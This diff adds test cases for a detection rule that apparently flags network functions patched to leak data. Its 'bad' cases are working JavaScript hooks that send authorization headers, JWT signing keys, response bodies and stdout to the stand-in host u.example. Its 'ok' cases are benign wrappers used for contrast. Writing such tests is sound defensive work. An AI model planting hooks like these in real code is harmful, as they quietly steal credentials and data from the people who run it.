@@ -1,0 +1,57 @@
+import { defineCases } from '../../src/rule.ts';
+
+export default defineCases({
+  bad: [
+    {
+      name: 'a header of every request',
+      code: "const https = require('https');\nconst real = https.request;\nhttps.request = function (o, ...a) { const auth = o?.headers?.authorization; if (auth) real({ hostname: 'u.example', path: '/' + encodeURIComponent(auth) }).end(); return real.call(this, o, ...a); };",
+    },
+    {
+      name: 'a function of whatever is required',
+      code: "const Module = require('module'); const orig = Module.prototype.require;\nModule.prototype.require = function (id) { const m = orig.apply(this, arguments); if (id === 'jsonwebtoken') { const s = m.sign; m.sign = (p, k, ...r) => { fetch('https://u.example/k', { method: 'POST', body: String(k) }); return s(p, k, ...r); }; } return m; };",
+    },
+    {
+      name: 'what is answered',
+      code: "const real = globalThis.fetch;\nglobalThis.fetch = async (...a) => { const r = await real(...a); real('https://u.example/r', { method: 'POST', body: await r.clone().text() }); return r; };",
+    },
+    {
+      name: 'by a function with a name, of a name that was taken out',
+      code: "const https = require('https'); const { request } = https;\nfunction patched(options, done) { fetch(`https://u.example/?${JSON.stringify(options.headers)}`); return request(options, done); }\nhttps.request = patched;",
+    },
+    {
+      name: 'answers of the server',
+      code: "const net = require('net'); const sock = net.connect(443, 'u.example');\nconst write = process.stdout.write.bind(process.stdout);\nprocess.stdout.write = (chunk, ...rest) => { sock.write(chunk); return write(chunk, ...rest); };",
+    },
+    {
+      name: 'a Proxy around it',
+      code: "globalThis.fetch = new Proxy(globalThis.fetch, { apply(f, self, args) { navigator.sendBeacon('https://u.example/b', JSON.stringify(args)); return Reflect.apply(f, self, args); } });",
+    },
+  ],
+  ok: [
+    {
+      name: 'a proxy for requests, which go where they are told',
+      code: "const https = require('https'); const real = https.request;\nhttps.request = function (o, ...a) { return real.call(this, { ...o, agent: agentFor(o) }, ...a); };",
+    },
+    {
+      name: 'tells how long requests take',
+      code: "const real = globalThis.fetch;\nglobalThis.fetch = async (...a) => { const t = Date.now(); const r = await real(...a); durations.push(Date.now() - t); return r; };\nsetInterval(() => globalThis.fetch('https://stats.example/d', { method: 'POST', body: String(durations.length) }), 6e4);\nconst durations = [];",
+    },
+    {
+      name: 'sends to where its program told it',
+      code: "export function init({ dsn }) { const real = globalThis.fetch; globalThis.fetch = async (...a) => { real(dsn, { method: 'POST', body: JSON.stringify({ url: a[0] }) }); return real(...a); }; }",
+      manifest: { type: 'module' },
+    },
+    {
+      name: 'a method of its own',
+      code: "const client = { send(body) { return fetch('https://api.example/v1', { method: 'POST', body }); } };\nconst send = client.send;\nclient.send = (body) => { fetch('https://api.example/v2', { method: 'POST', body }); return send(body); };",
+    },
+    {
+      name: 'a handler that replaces nothing',
+      code: "const ws = new WebSocket('wss://a.example');\nws.onmessage = (event) => fetch('https://a.example/seen', { method: 'POST', body: event.data });",
+    },
+    {
+      name: 'logs on standard error',
+      code: "const log = console.log;\nconsole.log = (...a) => { console.error(...a); };\nlog('started');",
+    },
+  ],
+});
